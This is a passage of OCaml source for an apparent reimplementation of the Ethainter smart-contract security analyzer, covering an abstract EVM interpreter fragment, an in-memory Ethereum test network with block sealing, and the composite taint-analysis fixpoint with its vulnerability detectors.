      | Op.CREATE2 ->
          let _, _, st = pop2 st in
          let _, _, st = pop2 st in
          step { (push st STop) with pc = next }
      | Op.CALL | Op.CALLCODE ->
          let st = ref st in
          for _ = 1 to 7 do
            let _, st' = pop !st in
            st := st'
          done;
          step { (push !st STop) with pc = next }
      | Op.DELEGATECALL | Op.STATICCALL ->
          let st = ref st in
          for _ = 1 to 6 do
            let _, st' = pop !st in
            st := st'
          done;
          step { (push !st STop) with pc = next }
      | _ ->
          (* remaining 1-in 1-out ops *)
          let npop, npush = Op.stack_arity op in
          let st = ref st in
          for _ = 1 to npop do
            let _, st' = pop !st in
            st := st'
          done;
          let st = if npush > 0 then push !st STop else !st in
          step { st with pc = next }
    end
  in
  (try
     step { pc = 0; stack = []; memory = []; storage = []; pcs = []; depth = 0 }
   with Budget_exhausted -> ());
  (!results, !exhausted)
