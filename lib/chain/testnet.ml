(** An in-memory Ethereum test network.

    Plays the role of the paper's evaluation substrates: the mainnet
    snapshot Ethainter analyzes, and the "private fork of the Ropsten
    testnet" on which Ethainter-Kill destroys contracts (§6.1).

    The network executes transactions through {!Ethainter_evm.Interp},
    records per-transaction receipts with instruction traces, and can
    be forked cheaply (copy-on-snapshot of world state).

    Beyond receipts, the network seals {b blocks} and exposes them to
    consumers two ways: pull ({!blocks_since} tails the chain from any
    height) and push ({!on_block} observers run at each seal). A block
    carries the digested chain-observable effects — deployments,
    storage writes, self-destructs — that a streaming analysis index
    needs to compute its dirty set without re-deriving anything from
    instruction traces. By default every transaction seals its own
    block; {!in_block} batches several transactions into one. *)

module U = Ethainter_word.Uint256
module State = Ethainter_evm.State
module Interp = Ethainter_evm.Interp

type receipt = {
  tx_hash : U.t;
  from : U.t;
  to_ : U.t option; (** None for contract creation *)
  created : U.t option;
  outcome : Interp.outcome;
  trace : Interp.trace_entry list;
  logs : Interp.log_entry list; (** events emitted by this transaction *)
  effects : Interp.effect list;
      (** chain-observable effects (storage writes, creations,
          self-destructs), chronological; empty if rolled back *)
  gas_used : int;
  block : int;
}

type block = {
  b_number : int;
  b_receipts : receipt list; (** oldest first *)
  b_deployed : (U.t * string) list;
      (** contracts deployed in this block and still live at its seal
          (address × runtime bytecode) — direct deployments and
          factory CREATE/CREATE2 children alike *)
  b_storage_writes : (U.t * U.t) list;
      (** (contract, slot) pairs written in this block, deduplicated,
          in first-write order. Over-approximate: a write inside an
          inner call that later reverted is still listed (sound for
          invalidation, which treats each entry as "may have
          changed") *)
  b_selfdestructed : U.t list; (** contracts destroyed by this block *)
}

type t = {
  state : State.t;
  engine : Interp.engine; (* executor for every tx on this net *)
  mutable block_number : int;
  mutable receipts : receipt list;
  mutable blocks : block list; (* newest first *)
  mutable open_block : bool;   (* inside in_block: txs share one block *)
  mutable pending : receipt list; (* current block's receipts, newest first *)
  mutable observers : (block -> unit) list; (* registration order, reversed *)
  name : string;
}

let create ?(name = "ropsten-fork") ?(engine = Interp.Decoded) () =
  { state = State.create (); engine; block_number = 0; receipts = [];
    blocks = []; open_block = false; pending = []; observers = []; name }

(** Fork the network: independent deep copy of world state, shared
    history up to the fork point. Observers are {e not} inherited — a
    fork is a new chain tail and consumers must opt in again. *)
let fork ?(name = "fork") (t : t) =
  { state = State.copy t.state; engine = t.engine;
    block_number = t.block_number;
    receipts = t.receipts; blocks = t.blocks; open_block = false;
    pending = []; observers = []; name }

let state t = t.state
let block_number t = t.block_number

(* ---------------- blocks ---------------- *)

(* Digest the pending receipts into a sealed block and notify
   observers (in registration order, on the sealing thread). Effect
   lists over-approximate (inner reverts are not trimmed), so
   liveness-sensitive views — what was deployed, what is destroyed —
   are re-checked against the state at seal time. *)
let seal (t : t) : unit =
  let receipts = List.rev t.pending in
  t.pending <- [];
  let effects = List.concat_map (fun r -> r.effects) receipts in
  let seen_dep : (U.t, unit) Hashtbl.t = Hashtbl.create 8 in
  let seen_wr : (U.t * U.t, unit) Hashtbl.t = Hashtbl.create 16 in
  let seen_sd : (U.t, unit) Hashtbl.t = Hashtbl.create 4 in
  let deployed = ref [] and writes = ref [] and destroyed = ref [] in
  List.iter
    (fun (e : Interp.effect) ->
      match e with
      | Interp.E_create a ->
          if not (Hashtbl.mem seen_dep a) then begin
            Hashtbl.replace seen_dep a ();
            let code = State.code t.state a in
            if String.length code > 0 && not (State.is_destroyed t.state a)
            then deployed := (a, code) :: !deployed
          end
      | Interp.E_sstore { es_addr; es_slot } ->
          if not (Hashtbl.mem seen_wr (es_addr, es_slot)) then begin
            Hashtbl.replace seen_wr (es_addr, es_slot) ();
            writes := (es_addr, es_slot) :: !writes
          end
      | Interp.E_selfdestruct a ->
          if not (Hashtbl.mem seen_sd a) then begin
            Hashtbl.replace seen_sd a ();
            if State.is_destroyed t.state a then destroyed := a :: !destroyed
          end)
    effects;
  let b =
    { b_number = t.block_number; b_receipts = receipts;
      b_deployed = List.rev !deployed;
      b_storage_writes = List.rev !writes;
      b_selfdestructed = List.rev !destroyed }
  in
  t.blocks <- b :: t.blocks;
  List.iter (fun f -> f b) (List.rev t.observers)

(* Open a block if none is open; every transaction helper funnels
   through here. *)
let begin_tx (t : t) : unit =
  if not t.open_block then t.block_number <- t.block_number + 1

let record (t : t) (r : receipt) : unit =
  t.receipts <- r :: t.receipts;
  t.pending <- r :: t.pending;
  if not t.open_block then seal t

(** Batch several transactions into one block: [f]'s transactions all
    carry the same block number, and the block is sealed (observers
    notified) once [f] returns — also on exception. Not reentrant. *)
let in_block (t : t) (f : unit -> 'a) : 'a =
  if t.open_block then invalid_arg "Testnet.in_block: block already open";
  t.block_number <- t.block_number + 1;
  t.open_block <- true;
  Fun.protect
    ~finally:(fun () ->
      t.open_block <- false;
      seal t)
    f

(** Seal empty blocks until the head reaches [n] — how a daemon
    recovering onto a freshly-constructed chain brings the chain up to
    its journal's persisted cursor before replaying traffic (block
    numbers, which verdict provenance records, must line up). A no-op
    when the head is already at or past [n]. *)
let advance_to_block (t : t) (n : int) : unit =
  if t.open_block then
    invalid_arg "Testnet.advance_to_block: block already open";
  while t.block_number < n do
    in_block t (fun () -> ())
  done

(** Sealed blocks with number strictly greater than [n], ascending —
    [blocks_since t 0] is the whole chain, [blocks_since t (head - k)]
    tails the last [k]. *)
let blocks_since (t : t) (n : int) : block list =
  List.rev (List.filter (fun b -> b.b_number > n) t.blocks)

(** Register a block observer, called synchronously on the sealing
    thread after each block (including blocks sealed by {!in_block}).
    Observers must not raise and must not transact on [t] reentrantly. *)
let on_block (t : t) (f : block -> unit) : unit =
  t.observers <- f :: t.observers

(** Every live contract (deployed, not self-destructed) with its
    runtime bytecode, sorted by address — the corpus a cold batch
    sweep of the current chain state analyzes. *)
let live_contracts (t : t) : (U.t * string) list =
  State.fold_contracts t.state (fun a code acc -> (a, code) :: acc) []
  |> List.sort (fun (a, _) (b, _) -> U.compare a b)

(* ---------------- accounts and transactions ---------------- *)

(** Create an externally-owned account with the given balance. *)
let fund_account (t : t) (addr : U.t) (balance : U.t) =
  State.set_balance t.state addr balance

(** A deterministic "key pair": account addresses derived from a seed
    string, standing in for real ECDSA keys. *)
let account_of_seed (seed : string) : U.t =
  U.logand
    (Ethainter_crypto.Keccak.hash_word ("account:" ^ seed))
    (U.sub (U.shift_left U.one 160) U.one)

let tx_counter = ref 0

let next_tx_hash (from : U.t) =
  incr tx_counter;
  Ethainter_crypto.Keccak.hash_word
    (U.to_bytes from ^ string_of_int !tx_counter)

(** Deploy a contract from raw *deployment* bytecode (constructor code
    that returns the runtime). Returns the receipt; [created] holds the
    new contract's address on success. *)
let deploy (t : t) ~(from : U.t) ?(value = U.zero) (initcode : string) :
    receipt =
  begin_tx t;
  let nonce = State.nonce t.state from in
  let addr = State.contract_address ~creator:from ~nonce in
  State.bump_nonce t.state from;
  let snap = State.snapshot t.state in
  let _ = State.transfer t.state ~src:from ~dst:addr ~value in
  State.set_code t.state addr initcode;
  let cr =
    Interp.call_full ~engine:t.engine t.state ~caller:from ~target:addr
      ~value:U.zero ~calldata:""
  in
  let outcome, created, effects =
    match cr.Interp.outcome with
    | Interp.Returned runtime ->
        State.set_code t.state addr runtime;
        (* the deploy path creates by transaction, not by a CREATE
           opcode — synthesize the effect so block consumers see one
           uniform deployment stream *)
        ( Interp.Returned runtime, Some addr,
          Interp.E_create addr :: cr.Interp.tx_effects )
    | (Interp.Reverted _ | Interp.Failed _) as o ->
        State.restore t.state snap;
        (o, None, [])
  in
  let r =
    { tx_hash = next_tx_hash from; from; to_ = None; created; outcome;
      trace = cr.Interp.tx_trace; logs = cr.Interp.tx_logs; effects;
      gas_used = cr.Interp.gas_used; block = t.block_number }
  in
  record t r;
  r

(** Deploy runtime bytecode directly (wraps it in a deployer). *)
let deploy_runtime (t : t) ~(from : U.t) ?(value = U.zero) (runtime : string)
    : receipt =
  deploy t ~from ~value (Ethainter_evm.Bytecode.deployer runtime)

(** Send a transaction to a contract. *)
let transact (t : t) ~(from : U.t) ~(to_ : U.t) ?(value = U.zero)
    ?(gas = 10_000_000) (calldata : string) : receipt =
  begin_tx t;
  State.bump_nonce t.state from;
  let cr =
    Interp.call_full ~engine:t.engine ~gas
      ~block_number:(U.of_int t.block_number)
      t.state ~caller:from ~target:to_ ~value ~calldata
  in
  let r =
    { tx_hash = next_tx_hash from; from; to_ = Some to_; created = None;
      outcome = cr.Interp.outcome; trace = cr.Interp.tx_trace;
      logs = cr.Interp.tx_logs; effects = cr.Interp.tx_effects;
      gas_used = cr.Interp.gas_used; block = t.block_number }
  in
  record t r;
  r

(** Call a contract function by Solidity-style signature with 32-byte
    word arguments, e.g. [call_fn net ~from ~to_ "kill()" []]. *)
let call_fn (t : t) ~(from : U.t) ~(to_ : U.t) ?(value = U.zero)
    (signature : string) (args : U.t list) : receipt =
  let selector = Ethainter_crypto.Keccak.selector signature in
  let calldata =
    selector ^ String.concat "" (List.map U.to_bytes args)
  in
  transact t ~from ~to_ ~value calldata

let is_alive (t : t) (addr : U.t) : bool =
  (not (State.is_destroyed t.state addr))
  && String.length (State.code t.state addr) > 0

let succeeded (r : receipt) =
  match r.outcome with Interp.Returned _ -> true | _ -> false

let return_word (r : receipt) : U.t option =
  match r.outcome with
  | Interp.Returned s when String.length s >= 32 ->
      Some (U.of_bytes (String.sub s 0 32))
  | _ -> None
