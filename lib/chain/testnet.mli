(** An in-memory Ethereum test network.

    Plays the role of the paper's evaluation substrates: the network
    the analyzed contracts live on, and the "private fork of the
    Ropsten testnet" on which Ethainter-Kill destroys contracts (§6.1).
    Transactions execute through the real EVM interpreter; receipts
    carry full instruction traces and event logs.

    The network also seals {b blocks} and exposes them to consumers by
    pull ({!blocks_since}) or push ({!on_block}), carrying the digested
    chain-observable effects — deployments, storage writes,
    self-destructs — that a streaming analysis index needs to compute
    its dirty set. By default every transaction seals its own block;
    {!in_block} batches several into one. *)

module U = Ethainter_word.Uint256
module State = Ethainter_evm.State
module Interp = Ethainter_evm.Interp

type receipt = {
  tx_hash : U.t;
  from : U.t;
  to_ : U.t option;        (** [None] for contract creation *)
  created : U.t option;    (** new contract address, on successful create *)
  outcome : Interp.outcome;
  trace : Interp.trace_entry list; (** executed instructions *)
  logs : Interp.log_entry list;    (** events (empty if rolled back) *)
  effects : Interp.effect list;
      (** chain-observable effects (storage writes, creations,
          self-destructs), chronological; empty if rolled back *)
  gas_used : int;
  block : int;
}

type block = {
  b_number : int;
  b_receipts : receipt list; (** oldest first *)
  b_deployed : (U.t * string) list;
      (** contracts deployed in this block and still live at its seal
          (address × runtime bytecode) — direct deployments and
          factory CREATE/CREATE2 children alike *)
  b_storage_writes : (U.t * U.t) list;
      (** (contract, slot) pairs written in this block, deduplicated,
          in first-write order; over-approximate (writes inside inner
          calls that later reverted are still listed — sound for
          invalidation) *)
  b_selfdestructed : U.t list; (** contracts destroyed by this block *)
}

type t

val create : ?name:string -> ?engine:Interp.engine -> unit -> t
(** [engine] selects the interpreter executor for every transaction on
    this network (default {!Interp.Decoded}); forks inherit it. The
    [Bytewise] reference engine exists for differential testing and
    benchmarking — results are identical either way. *)

val fork : ?name:string -> t -> t
(** Independent deep copy of world state; shared history up to the
    fork point. Block observers are {e not} inherited. *)

val state : t -> State.t
val block_number : t -> int

val in_block : t -> (unit -> 'a) -> 'a
(** [in_block t f] batches all transactions performed by [f] into a
    single block, sealed (and observers notified) when [f] returns —
    also on exception. Not reentrant. *)

val advance_to_block : t -> int -> unit
(** Seal empty blocks until {!block_number} reaches the argument (a
    no-op when already there or past). A recovering daemon uses this
    to bring a freshly-constructed chain up to its journal's persisted
    cursor, so the block numbers recorded in restored verdicts line up
    with the chain it re-attaches to.
    @raise Invalid_argument inside {!in_block}. *)

val blocks_since : t -> int -> block list
(** [blocks_since t n] is every sealed block with number strictly
    greater than [n], oldest first — [blocks_since t 0] replays the
    whole chain. *)

val on_block : t -> (block -> unit) -> unit
(** Register a block observer, called synchronously on the sealing
    thread after each block, in registration order. Observers must not
    raise and must not transact on [t] reentrantly. *)

val live_contracts : t -> (U.t * string) list
(** Every live contract (deployed, not self-destructed) with its
    runtime bytecode, sorted by address — the corpus a cold batch
    sweep of the current chain state analyzes. *)

val fund_account : t -> U.t -> U.t -> unit
(** Credit an externally-owned account. *)

val account_of_seed : string -> U.t
(** Deterministic 160-bit account address derived from a seed string
    (stands in for a real key pair). *)

val deploy : t -> from:U.t -> ?value:U.t -> string -> receipt
(** Execute deployment bytecode (constructor returning the runtime). *)

val deploy_runtime : t -> from:U.t -> ?value:U.t -> string -> receipt
(** Wrap runtime bytecode in a standard deployer and deploy it. *)

val transact :
  t -> from:U.t -> to_:U.t -> ?value:U.t -> ?gas:int -> string -> receipt
(** Send a transaction with raw calldata. *)

val call_fn :
  t -> from:U.t -> to_:U.t -> ?value:U.t -> string -> U.t list -> receipt
(** Call by Solidity-style signature with word-sized arguments, e.g.
    [call_fn net ~from ~to_ "transfer(address,uint256)" [dst; amount]]. *)

val is_alive : t -> U.t -> bool
(** Deployed and not self-destructed. *)

val succeeded : receipt -> bool
val return_word : receipt -> U.t option
(** First 32 bytes of return data, if any. *)
