(** The Ethainter composite information-flow analysis.

    A native-OCaml fixpoint mirroring the mutually recursive Datalog
    skeleton of Fig. 5 and the formal rules of Fig. 3:

    - {b Two kinds of taint} (Fig. 2/3): [Input] taint from transaction
      input, which sender guards can sanitize, and [Storage] taint,
      which persists in contract storage across transactions and which
      guards can {e not} remove (rules Guard-1/Guard-2).
    - {b Attacker-reachability} (Fig. 5): a statement is reachable by
      an attacker if it has no sender-scrutinizing dominating guard, or
      if every such guard fails to sanitize — because its condition is
      tainted, because the storage it trusts is attacker-writable
      (Uguard-T), or because it never scrutinizes the caller
      (Uguard-NDS).
    - {b Composite escalation}: attacker-reachable stores make storage
      slots attacker-writable and possibly value-tainted; guards
      trusting those slots stop sanitizing; more statements become
      reachable; new stores happen — around the loop until fixpoint.
      This is exactly the multi-transaction escalation of §2 (user →
      admin → owner → selfdestruct).

    All relations grow monotonically, so iteration to fixpoint
    terminates; [Config.max_fixpoint_rounds] is a defensive bound. *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode
open Ethainter_tac
open Tac

type taint_kind = Input | Storage

module TK = struct
  type t = { mutable input : bool; mutable storage : bool }

  let empty () = { input = false; storage = false }
  let any t = t.input || t.storage
end

type t = {
  cfg : Config.t;
  facts : Facts.t;
  taint : (var, TK.t) Hashtbl.t;
  reachable : (int, unit) Hashtbl.t; (* statement pc *)
  (* value-taint of storage locations *)
  tainted_const_slots : (U.t, unit) Hashtbl.t;
  tainted_data_slots : (U.t, unit) Hashtbl.t; (* by root slot *)
  mutable all_slots_tainted : bool; (* StorageWrite-2 over-approximation *)
  (* attacker-writability of storage locations *)
  writable_const_slots : (U.t, unit) Hashtbl.t;
  writable_data_slots : (U.t, unit) Hashtbl.t;
  mutable all_slots_writable : bool;
  (* transaction-local memory, modeled flow-insensitively at constant
     offsets (§5: "the memory is modeled only locally, which still
     captures enough flows to expose realistic vulnerabilities") *)
  mem_taint : (U.t, TK.t) Hashtbl.t;
  mutable changed : bool;
  mutable rounds : int;
}

let taint_of (t : t) v =
  match Hashtbl.find_opt t.taint v with
  | Some k -> k
  | None ->
      let k = TK.empty () in
      Hashtbl.replace t.taint v k;
      k

let is_tainted t v = match Hashtbl.find_opt t.taint v with
  | Some k -> TK.any k
  | None -> false

let is_input_tainted t v =
  match Hashtbl.find_opt t.taint v with Some k -> k.TK.input | None -> false

let is_storage_tainted t v =
  match Hashtbl.find_opt t.taint v with Some k -> k.TK.storage | None -> false

let add_taint (t : t) v (kind : taint_kind) =
  let k = taint_of t v in
  match kind with
  | Input ->
      if not k.TK.input then begin
        k.TK.input <- true;
        t.changed <- true
      end
  | Storage ->
      if not k.TK.storage then begin
        k.TK.storage <- true;
        t.changed <- true
      end

let slot_tainted (t : t) (c : Facts.slot_class) : bool =
  t.all_slots_tainted
  ||
  match c with
  | Facts.SConst v -> Hashtbl.mem t.tainted_const_slots v
  | Facts.SData b -> Hashtbl.mem t.tainted_data_slots b
  | Facts.SUnknown ->
      (* conservative mode: an unknown load may read any tainted slot *)
      t.cfg.Config.conservative_storage
      && (Hashtbl.length t.tainted_const_slots > 0
         || Hashtbl.length t.tainted_data_slots > 0)

let slot_writable (t : t) (c : Facts.slot_class) : bool =
  t.all_slots_writable
  ||
  match c with
  | Facts.SConst v -> Hashtbl.mem t.writable_const_slots v
  | Facts.SData b -> Hashtbl.mem t.writable_data_slots b
  | Facts.SUnknown ->
      t.cfg.Config.conservative_storage
      && (Hashtbl.length t.writable_const_slots > 0
         || Hashtbl.length t.writable_data_slots > 0)

let taint_slot (t : t) (c : Facts.slot_class) =
  if t.cfg.Config.storage_taint then
    match c with
    | Facts.SConst v ->
        if not (Hashtbl.mem t.tainted_const_slots v) then begin
          Hashtbl.replace t.tainted_const_slots v ();
          t.changed <- true
        end
    | Facts.SData b ->
        if not (Hashtbl.mem t.tainted_data_slots b) then begin
          Hashtbl.replace t.tainted_data_slots b ();
          t.changed <- true
        end
    | Facts.SUnknown ->
        if t.cfg.Config.conservative_storage && not t.all_slots_tainted
        then begin
          (* Fig. 8c: a store to an unknown location may reach any
             location *)
          t.all_slots_tainted <- true;
          t.changed <- true
        end

let mem_cell (t : t) (off : U.t) : TK.t =
  match Hashtbl.find_opt t.mem_taint off with
  | Some k -> k
  | None ->
      let k = TK.empty () in
      Hashtbl.replace t.mem_taint off k;
      k

let taint_mem (t : t) (off : U.t) (kind : taint_kind) =
  let k = mem_cell t off in
  match kind with
  | Input ->
      if not k.TK.input then begin
        k.TK.input <- true;
        t.changed <- true
      end
  | Storage ->
      if not k.TK.storage then begin
        k.TK.storage <- true;
        t.changed <- true
      end

let make_writable (t : t) (c : Facts.slot_class) =
  match c with
  | Facts.SConst v ->
      if not (Hashtbl.mem t.writable_const_slots v) then begin
        Hashtbl.replace t.writable_const_slots v ();
        t.changed <- true
      end
  | Facts.SData b ->
      if not (Hashtbl.mem t.writable_data_slots b) then begin
        Hashtbl.replace t.writable_data_slots b ();
        t.changed <- true
      end
  | Facts.SUnknown ->
      if t.cfg.Config.conservative_storage && not t.all_slots_writable
      then begin
        t.all_slots_writable <- true;
        t.changed <- true
      end

(* ------------------------------------------------------------------ *)
(* Guards                                                              *)
(* ------------------------------------------------------------------ *)

(** Does guard [g] fail to sanitize caller input? (NonSanitizingGuard,
    rules Uguard-T and Uguard-NDS, plus tainted-guard conditions of
    Fig. 5.) *)
let non_sanitizing (t : t) (g : Facts.guard) : bool =
  let f = t.facts in
  (* Uguard-NDS: no sender scrutiny at all *)
  (not (Facts.scrutinizes_sender f g.Facts.g_cond))
  (* tainted guard: the condition itself carries taint *)
  || is_tainted t g.Facts.g_cond
  (* Uguard-T: the guard trusts storage an attacker can write. Defeating
     guards through storage IS taint propagation via storage (across
     transactions), so the Fig. 8a "No Storage Modeling" ablation turns
     it off along with value taint. *)
  || (t.cfg.Config.storage_taint
     && List.exists
          (fun (ld_var, cls) ->
            ignore ld_var;
            slot_writable t cls || slot_tainted t cls)
          (Facts.guard_storage_reads f g.Facts.g_cond))

(** ReachableByAttacker: no effective sanitizing guard dominates the
    statement. *)
let stmt_reachable (t : t) (s : stmt) : bool =
  (not t.cfg.Config.model_guards)
  || Hashtbl.mem t.reachable s.s_pc
  ||
  let gs = Facts.guards_of_stmt t.facts s in
  let sender_guards =
    List.filter
      (fun g -> Facts.scrutinizes_sender t.facts g.Facts.g_cond)
      gs
  in
  sender_guards = [] || List.for_all (non_sanitizing t) sender_guards

(* ------------------------------------------------------------------ *)
(* The fixpoint                                                        *)
(* ------------------------------------------------------------------ *)

(* Operations through which taint propagates from arguments to result
   (Operation-1/2 of Fig. 3, extended with the hash rule). *)
let propagates_through = function
  | Op.ADD | Op.SUB | Op.MUL | Op.DIV | Op.SDIV | Op.MOD | Op.SMOD
  | Op.ADDMOD | Op.MULMOD | Op.EXP | Op.SIGNEXTEND | Op.LT | Op.GT
  | Op.SLT | Op.SGT | Op.EQ | Op.ISZERO | Op.AND | Op.OR | Op.XOR
  | Op.NOT | Op.BYTE | Op.SHL | Op.SHR | Op.SAR | Op.SHA3
  | Op.CALLDATALOAD | Op.MLOAD | Op.BALANCE ->
      true
  | _ -> false

let run ?(cfg = Config.default) (facts : Facts.t) : t =
  let t =
    { cfg; facts; taint = Hashtbl.create 256; reachable = Hashtbl.create 256;
      tainted_const_slots = Hashtbl.create 16;
      tainted_data_slots = Hashtbl.create 16; all_slots_tainted = false;
      writable_const_slots = Hashtbl.create 16;
      writable_data_slots = Hashtbl.create 16; all_slots_writable = false;
      mem_taint = Hashtbl.create 32; changed = true; rounds = 0 }
  in
  let p = facts.Facts.program in
  let all_stmts = stmts p in
  while t.changed && t.rounds < cfg.Config.max_fixpoint_rounds do
    t.changed <- false;
    t.rounds <- t.rounds + 1;
    List.iter
      (fun s ->
        Deadline.poll ();
        let reach = stmt_reachable t s in
        if reach && not (Hashtbl.mem t.reachable s.s_pc) then begin
          Hashtbl.replace t.reachable s.s_pc ();
          t.changed <- true
        end;
        match (s.s_op, s.s_res) with
        (* --- taint sources (LoadInput): attacker-supplied input in
               attacker-reachable statements --- *)
        | TOp (Op.CALLDATALOAD | Op.CALLVALUE | Op.CALLDATASIZE), Some r ->
            if reach then add_taint t r Input
        (* --- storage loads (StorageLoad + Guard-1): storage taint is
               introduced regardless of guarding --- *)
        | TOp Op.SLOAD, Some r -> (
            match s.s_args with
            | [ a ] ->
                let cls = Facts.classify_slot facts a in
                if slot_tainted t cls then add_taint t r Storage;
                (* a load whose *address* is input-tainted, from an
                   attacker-writable region, is attacker-influenced *)
                if is_tainted t a && slot_writable t cls then
                  add_taint t r Storage
            | _ -> ())
        (* --- storage writes (StorageWrite-1/2) --- *)
        | TOp Op.SSTORE, None -> (
            match s.s_args with
            | [ addr; value ] ->
                if reach then begin
                  let cls = Facts.classify_slot facts addr in
                  (* the attacker can direct this write *)
                  (match cls with
                  | Facts.SConst _ -> make_writable t cls
                  | Facts.SData _ ->
                      (* writable only if the attacker controls the
                         key: a sender-derived or tainted address *)
                      if
                        Hashtbl.mem facts.Facts.ds_addr addr
                        || is_tainted t addr
                      then make_writable t cls
                  | Facts.SUnknown ->
                      if is_tainted t addr then begin
                        (* StorageWrite-2: tainted value AND tainted
                           unknown address -> all constant slots may be
                           hit *)
                        if
                          is_tainted t value && t.cfg.Config.storage_taint
                          && not t.all_slots_tainted
                        then begin
                          t.all_slots_tainted <- true;
                          t.changed <- true
                        end;
                        if not t.all_slots_writable then begin
                          t.all_slots_writable <- true;
                          t.changed <- true
                        end
                      end
                      else if t.cfg.Config.conservative_storage then
                        make_writable t cls);
                  (* value taint persists into storage *)
                  if is_tainted t value then taint_slot t cls
                end
            | _ -> ())
        (* --- hashing: taint flows from the hashed words, not from the
               memory-range operands --- *)
        | TOp Op.SHA3, Some r ->
            (match s.s_sha3_args with
            | Some hashed ->
                List.iter
                  (fun a ->
                    if reach && is_input_tainted t a then add_taint t r Input;
                    if is_storage_tainted t a then add_taint t r Storage)
                  hashed
            | None ->
                (* unresolved hash region: fall back to the memory cells
                   we know about near the offset operand *)
                List.iter
                  (fun a ->
                    if reach && is_input_tainted t a then add_taint t r Input;
                    if is_storage_tainted t a then add_taint t r Storage)
                  s.s_args)
        (* --- transaction-local memory --- *)
        | TOp Op.MSTORE, None -> (
            match s.s_args with
            | [ off; v ] -> (
                match const_of p off with
                | Some o ->
                    if reach && is_input_tainted t v then taint_mem t o Input;
                    if is_storage_tainted t v then taint_mem t o Storage
                | None ->
                    (* store to a computed offset: smear over all known
                       cells (rare in compiled code; mirrors the eager
                       treatment of tainted stores in §1) *)
                    if is_tainted t v then
                      Hashtbl.iter
                        (fun o _ ->
                          if reach && is_input_tainted t v then
                            taint_mem t o Input;
                          if is_storage_tainted t v then taint_mem t o Storage)
                        t.mem_taint)
            | _ -> ())
        | TOp Op.MLOAD, Some r -> (
            match s.s_args with
            | [ off ] -> (
                match const_of p off with
                | Some o -> (
                    match Hashtbl.find_opt t.mem_taint o with
                    | Some k ->
                        if reach && k.TK.input then add_taint t r Input;
                        if k.TK.storage then add_taint t r Storage
                    | None -> ())
                | None -> ())
            | _ -> ())
        | TOp Op.CALLDATACOPY, None -> (
            (* attacker input copied into memory *)
            match s.s_args with
            | dst :: _ when reach -> (
                match const_of p dst with
                | Some o -> taint_mem t o Input
                | None -> ())
            | _ -> ())
        (* --- ordinary operations (Operation-1/2) --- *)
        | TOp op, Some r when propagates_through op ->
            List.iter
              (fun a ->
                (* Input taint flows only into attacker-reachable
                   statements (guards sanitize it: Guard-2);
                   storage taint flows everywhere (Guard-1). *)
                if reach && is_input_tainted t a then add_taint t r Input;
                if is_storage_tainted t a then add_taint t r Storage)
              s.s_args
        | TPhi, Some r ->
            List.iter
              (fun a ->
                if reach && is_input_tainted t a then add_taint t r Input;
                if is_storage_tainted t a then add_taint t r Storage)
              s.s_args
        | _ -> ())
      all_stmts
  done;
  t

(* ------------------------------------------------------------------ *)
(* Vulnerability detection (§3, §4.5)                                  *)
(* ------------------------------------------------------------------ *)

(* Is there a RETURNDATASIZE-based check downstream of this statement
   (same block after it, or in a dominated block)? *)
let has_returndatasize_check (t : t) (s : stmt) : bool =
  let p = t.facts.Facts.program in
  let doms = t.facts.Facts.doms in
  List.exists
    (fun s' ->
      Deadline.poll ();
      match s'.s_op with
      | TOp Op.RETURNDATASIZE ->
          (s'.s_block = s.s_block && s'.s_pc > s.s_pc)
          || (s'.s_block <> s.s_block
             && Dominators.dominates doms s.s_block s'.s_block)
      | _ -> false)
    (stmts p)

(** The storage locations trusted by sender-scrutinizing guards — the
    inferred sinks of §4.5 ("a variable that determines a potentially-
    sanitizing guard is by itself a sink"). *)
let owner_slots (facts : Facts.t) : Facts.slot_class list =
  let acc = ref [] in
  Hashtbl.iter
    (fun _ gs ->
      List.iter
        (fun (g : Facts.guard) ->
          List.iter
            (fun (_, cls) ->
              if not (List.mem cls !acc) then acc := cls :: !acc)
            (Facts.sender_eq_storage_reads facts g.Facts.g_cond))
        gs)
    facts.Facts.known_true;
  !acc

(** Run detectors over a completed fixpoint and emit reports. *)
let detect (t : t) : Vulns.report list =
  let p = t.facts.Facts.program in
  let owner = owner_slots t.facts in
  let reports = ref [] in
  let add kind (s : stmt) composite note =
    reports :=
      Vulns.
        { r_kind = kind; r_pc = s.s_pc; r_block = s.s_block;
          r_orphan = is_orphan_block p s.s_block; r_composite = composite;
          r_note = note }
      :: !reports
  in
  let reach s = Hashtbl.mem t.reachable s.s_pc in
  (* "composite" = the exploit needed the storage-taint escalation:
     the statement is guarded by sender guards, all defeated. *)
  let composite (s : stmt) =
    List.exists
      (fun g -> Facts.scrutinizes_sender t.facts g.Facts.g_cond)
      (Facts.guards_of_stmt t.facts s)
  in
  List.iter
    (fun s ->
      Deadline.poll ();
      match s.s_op with
      | TOp Op.SELFDESTRUCT ->
          if reach s then
            add Vulns.AccessibleSelfdestruct s (composite s) "";
          (match s.s_args with
          | [ b ] when is_tainted t b ->
              let note =
                if is_storage_tainted t b then "beneficiary tainted via storage"
                else "beneficiary tainted from input"
              in
              add Vulns.TaintedSelfdestruct s
                (composite s || is_storage_tainted t b)
                note
          | _ -> ())
      | TOp Op.DELEGATECALL -> (
          match s.s_args with
          | _gas :: target :: _ when is_tainted t target ->
              if reach s || is_storage_tainted t target then
                add Vulns.TaintedDelegatecall s (composite s)
                  "delegatecall target attacker-controlled"
          | _ -> ())
      | TOp Op.STATICCALL -> (
          (* args: gas, addr, inoff, insize, outoff, outsize *)
          match s.s_args with
          | [ _gas; target; inoff; _insize; outoff; _outsize ] ->
              let overlap =
                match (const_of p inoff, const_of p outoff) with
                | Some a, Some b -> U.equal a b
                | _ -> false
              in
              if
                overlap && reach s
                && (is_tainted t target || is_tainted t inoff)
                && not (has_returndatasize_check t s)
              then
                add Vulns.UncheckedTaintedStaticcall s (composite s)
                  "output buffer overlaps input, no returndatasize check"
          | _ -> ())
      | TOp Op.SSTORE -> (
          match s.s_args with
          | [ addr; value ] ->
              let cls = Facts.classify_slot t.facts addr in
              let hits_owner =
                List.exists
                  (fun oc ->
                    Facts.may_alias
                      ~conservative:t.cfg.Config.conservative_storage oc cls
                    || (t.all_slots_writable && oc <> Facts.SUnknown))
                  owner
              in
              if reach s && hits_owner && is_tainted t value then
                add Vulns.TaintedOwnerVariable s (composite s)
                  (Facts.slot_class_to_string cls
                  ^ " is trusted by a sender guard")
          | _ -> ())
      | _ -> ())
    (stmts p);
  (* deduplicate per (kind, pc) *)
  let seen = Hashtbl.create 16 in
  List.filter
    (fun (r : Vulns.report) ->
      let k = (r.Vulns.r_kind, r.Vulns.r_pc) in
      if Hashtbl.mem seen k then false
      else begin
